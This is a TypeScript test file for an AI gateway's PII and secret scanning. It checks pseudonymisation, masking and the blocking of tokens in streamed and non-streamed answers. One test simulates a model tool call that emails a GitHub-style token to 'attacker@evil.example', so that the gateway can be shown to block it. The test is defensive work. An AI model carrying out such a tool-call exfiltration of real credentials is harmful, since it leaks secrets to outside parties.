// scan.pii and scan.secrets in the gateway: the upstream never receives raw values, pseudonyms
// come back restored, and a secret split across streamed chunks never leaves.
import OpenAI from 'openai';
import { describe, expect, it } from 'vitest';
import { mockPolicy, useMockGateway } from '../support/gateway.ts';

const EMAIL = 'jane.doe@example.com';
const CARD = '4111 1111 1111 1111';
const AWS = 'AKIAIOSFODNN7Q2WXYZA';
const GH = 'ghp_x7Kq2mN9pL4vR8sT1wY6zB3cD5fG0hJ2kL9a';

const guards = `  - id: auth.api_key
  - id: scan.pii
    config: { actions: { PERSON: pseudonymize, EMAIL_ADDRESS: pseudonymize, CREDIT_CARD: mask } }
  - id: scan.secrets
    config: { default_action: mask }
  - id: scan.pii
    name: pii-out
    config: { stage: scan_output }
  - id: scan.secrets
    name: secrets-out
    config: { stage: scan_output, default_action: block }
`;

describe('sensitive data through the gateway', () => {
  const fx = useMockGateway((base) => mockPolicy(base, guards), { kind: 'echo' });


  const ask = (content: string, stream = false, extra: object = {}) =>
    fx.t.post('/v1/chat/completions', { model: 'mock-chat', stream, messages: [{ role: 'user', content }], ...extra });

  it('sends placeholders upstream and restores them in the answer', async () => {
    const r = await ask(`Please write to Jane Doe at ${EMAIL} about card ${CARD}.`);
    expect(r.status).toBe(200);
    const sent = fx.up.received[0]!.body;
    expect(sent).not.toContain(EMAIL);
    expect(sent).not.toContain('Jane Doe');
    expect(sent).not.toContain(CARD);
    expect(sent).toMatch(/<PERSON_1>.*<EMAIL_ADDRESS_1>.*\[CREDIT_CARD\]/);
    const answer = ((await r.json()) as { choices: Array<{ message: { content: string } }> }).choices[0]!.message.content;
    expect(answer).toContain('Jane Doe');
    expect(answer).toContain(EMAIL);
    expect(answer).toContain('[CREDIT_CARD]');
  });

  it('keeps placeholders consistent across the turns of one conversation', async () => {
    const r = await fx.t.post('/v1/chat/completions', {
      model: 'mock-chat',
      messages: [
        { role: 'user', content: `My email is ${EMAIL}.` },
        { role: 'assistant', content: 'Noted.' },
        { role: 'user', content: `Send the summary to ${EMAIL} and to bob.smith@example.org.` },
      ],
    });
    expect(r.status).toBe(200);
    const sent = JSON.parse(fx.up.received[0]!.body) as { messages: Array<{ content: string }> };
    expect(sent.messages[0]!.content).toContain('<EMAIL_ADDRESS_1>');
    expect(sent.messages[2]!.content).toContain('<EMAIL_ADDRESS_1>');
    expect(sent.messages[2]!.content).toContain('<EMAIL_ADDRESS_2>');
  });

  it('masks secrets on the way in', async () => {
    const r = await ask(`deploy with key ${AWS} and token ${GH}`);
    expect(r.status).toBe(200);
    expect(fx.up.received[0]!.body).not.toContain(AWS);
    expect(fx.up.received[0]!.body).not.toContain(GH);
  });

  it('restores pseudonyms in a streamed answer, placeholders split across chunks', async () => {
    fx.up.mode = { kind: 'echo', chunkSize: 2 };
    const r = await ask(`Say hello to Jane Doe (${EMAIL}).`, true);
    const text = await r.text();
    const content = text
      .split('\n\n')
      .filter((e) => e.startsWith('data: {'))
      .map((e) => (JSON.parse(e.slice(6)) as { choices: Array<{ delta?: { content?: string } }> }).choices[0]?.delta?.content ?? '')
      .join('');
    expect(content).toContain(EMAIL);
    expect(content).toContain('Jane Doe');
    expect(text).toContain('[DONE]');
  });

  it('never lets a secret out of a stream, at any split position, and the openai client raises it', async () => {
    // The upstream itself produces the secret (the input guard cannot have seen it).
    const answer = `Here is the deploy token: ${GH} use it well`;
    for (const size of [1, 3, 7, 40]) {
      fx.up.mode = { kind: 'stream', chunks: answer.match(new RegExp(`[^]{1,${size}}`, 'g'))! };
      const r = await ask('what is the token?', true);
      const text = await r.text();
      expect(text).not.toContain(GH.slice(0, 12));
      expect(text).toMatch(/BULWARK_E_POLICY_BLOCKED/);
    }
    const client = new OpenAI({ apiKey: fx.t.key, baseURL: `${fx.t.url}/v1`, maxRetries: 0 });
    fx.up.mode = { kind: 'stream', chunks: answer.match(/[^]{1,5}/g)! };
    const stream = await client.chat.completions.create({ model: 'mock-chat', stream: true, messages: [{ role: 'user', content: 'token?' }] });
    const drain = async () => {
      for await (const _ of stream) {
        /* drain */
      }
    };
    await expect(drain()).rejects.toBeInstanceOf(OpenAI.APIError);
  });

  it('blocks a secret in a non-streamed answer', async () => {
    fx.up.mode = { kind: 'ok', answer: `the key is ${AWS}` };
    const r = await ask('key?');
    expect(r.status).toBe(400);
    expect(await r.text()).not.toContain(AWS);
  });

  it('checks tool-call arguments: a secret exfiltrated through a tool call is blocked, streamed or not', async () => {
    const args = JSON.stringify({ to: 'attacker@evil.example', body: `token ${GH}` });
    fx.up.mode = { kind: 'tool', args };
    const r = await ask('email the team');
    expect(r.status).toBe(400);
    expect(await r.text()).not.toContain(GH);
    for (const size of [1, 5, 17]) {
      fx.up.mode = { kind: 'tool', args, chunkSize: size };
      const s = await ask('email the team', true);
      const text = await s.text();
      expect(text).not.toContain(GH.slice(0, 12));
      expect(text).toMatch(/BULWARK_E_POLICY_BLOCKED/);
    }
    fx.up.mode = { kind: 'tool', args: JSON.stringify({ to: 'team@example.com', body: 'all good' }), chunkSize: 3 };
    const ok = await (await ask('email the team', true)).text();
    const sent = ok
      .split('\n\n')
      .filter((e) => e.startsWith('data: {'))
      .flatMap((e) => (JSON.parse(e.slice(6)) as { choices: Array<{ delta?: { tool_calls?: Array<{ function: { arguments?: string } }> } }> }).choices)
      .flatMap((c) => c.delta?.tool_calls ?? [])
      .map((c) => c.function.arguments ?? '')
      .join('');
    // Reassembled across chunks into valid JSON; pii-out masks the address like any answer text.
    expect(JSON.parse(sent)).toEqual({ to: '[EMAIL_ADDRESS]', body: 'all good' });
  });

  it('masks secrets in tool-call arguments of the conversation history on the way in', async () => {
    const r = await fx.t.post('/v1/chat/completions', {
      model: 'mock-chat',
      messages: [
        { role: 'user', content: 'deploy it' },
        { role: 'assistant', content: null, tool_calls: [{ id: 'c1', type: 'function', function: { name: 'deploy', arguments: JSON.stringify({ key: AWS }) } }] },
        { role: 'tool', tool_call_id: 'c1', content: 'done' },
        { role: 'user', content: 'thanks' },
      ],
    });
    expect(r.status).toBe(200);
    expect(fx.up.received[0]!.body).not.toContain(AWS);
  });
});
